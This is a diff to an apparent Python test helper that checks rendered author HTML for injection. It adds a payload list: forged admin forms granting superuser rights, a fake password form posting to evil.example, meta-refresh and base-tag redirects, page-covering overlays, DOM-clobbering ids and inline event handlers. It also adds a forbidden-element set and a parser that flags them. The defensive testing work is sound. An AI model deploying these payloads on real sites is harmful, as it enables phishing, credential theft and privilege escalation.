@@ -133,6 +133,40 @@ _SVG_AND_OTHER = [
     "\u202e<script>alert(1)</script>",
 ]
 
+# What an author's raw HTML could do without script: take over the page or the admin.
+_AUTHOR_ONLY = [
+    '<form action="/admin/auth/user/1/change/" method="post">'
+    '<input type="hidden" name="is_superuser" value="on"><button>Save</button></form>',
+    '<button type="submit" formaction="/admin/auth/user/2/change/" class="default">Save</button>',
+    '<input type="hidden" name="is_staff" value="on">',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    '<meta http-equiv="refresh" content="5">',
+    '<div style="position:fixed;inset:0;background:#fff;z-index:9999">Sign in again</div>',
+    '<div class="overlay modal-backdrop">Session expired</div>',
+    '<form action="https://evil.example/collect"><label>Password <input type="password" '
+    'name="password"></label><input type="submit" value="Sign in"></form>',
+    '<a class="ref" href="https://evil.example/John/3/16" data-osis="John.3.16">John 3:16'
+    '<span class="ref-preview" role="tooltip">For God so loved the world</span></a>',
+    '<a href="https://evil.example/" class="button">Continue</a>',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<base href="https://evil.example/">',
+    "<dialog open>Your session has ended</dialog>",
+    '<select name="x"><option>One</option></select><textarea name="y">z</textarea>',
+    '<img src="x" srcset="javascript:alert(1) 1x" alt="x">',
+    '<section class="section section-prayer" id="at-1">Forged part</section>',
+    '<span id="ref-1">clobbered preview id</span><p id="main">clobbered</p>',
+    '<div markdown="1"><form><input name="q"></form></div>',
+    '<table><tr><td><form action="/x"><button>Go</button></form></td></tr></table>',
+    "<details open><summary>More</summary><input autofocus></details>",
+    "<h2>Prayer</h2>\n\n<p onmouseover=alert(1)>Amen</p>",
+    "\ue000a\ue001 \ue010depth:study\ue011",
+]
+FORBIDDEN_ELEMENTS = {
+    "form", "input", "button", "textarea", "select", "option", "label", "meta", "link", "base",
+    "iframe", "frame", "frameset", "object", "embed", "dialog", "portal", "style", "script",
+    "svg", "math", "template", "noscript",
+}  # fmt: skip
+
 PAYLOADS: list[str] = [
     *_SCRIPTS,
     *_HANDLERS,
@@ -142,8 +176,12 @@ PAYLOADS: list[str] = [
     *_SVG_AND_OTHER,
 ]
 
+DEVOTION_PAYLOADS: list[str] = [*PAYLOADS, *_AUTHOR_ONLY]
+
 SAFE_SCHEMES = {"", "http", "https", "mailto"}
-URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
+URL_ATTRIBUTES = {
+    "href", "src", "srcset", "action", "formaction", "xlink:href", "data", "srcdoc", "cite",
+}  # fmt: skip
 
 
 class _Inspector(HTMLParser):
@@ -169,6 +207,40 @@ class _Inspector(HTMLParser):
                 scheme = urlsplit("".join(value.split())).scheme.lower()
                 if scheme not in SAFE_SCHEMES:
                     self.problems.append(f"<{tag} {name}={value!r}>")
+
+
+class _Injected(HTMLParser):
+    """Elements and attributes a writer's fragment must never carry, script or not."""
+
+    def __init__(self, classes: set[str], ids: tuple[str, ...]) -> None:
+        super().__init__(convert_charrefs=True)
+        self.classes = classes
+        self.ids = ids
+        self.problems: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag in FORBIDDEN_ELEMENTS:
+            self.problems.append(f"<{tag}> element")
+        for name, value in attrs:
+            if name == "class":
+                strange = set((value or "").split()) - self.classes
+                if strange:
+                    self.problems.append(f"<{tag} class={' '.join(sorted(strange))}>")
+            if name == "id" and not (value or "").startswith(self.ids):
+                self.problems.append(f"<{tag} id={value}>")
+            if name in ("style", "http-equiv", "formaction", "srcset", "autofocus"):
+                self.problems.append(f"<{tag} {name}=...>")
+
+
+def injected_markup(
+    fragment: str, *, classes: set[str], ids: tuple[str, ...] = ("fn:", "fnref:")
+) -> list[str]:
+    """Everything in a writer's rendered `fragment` that could run script or pose as the
+    page (form controls, refreshes, styles, classes other than `classes`); [] when clean."""
+    inspector = _Injected(classes, ids)
+    inspector.feed(fragment)
+    inspector.close()
+    return unsafe_markup(fragment) + inspector.problems
 
 
 def unsafe_markup(html: str, *, allowed_scripts: tuple[str, ...] = ("/static/",)) -> list[str]:
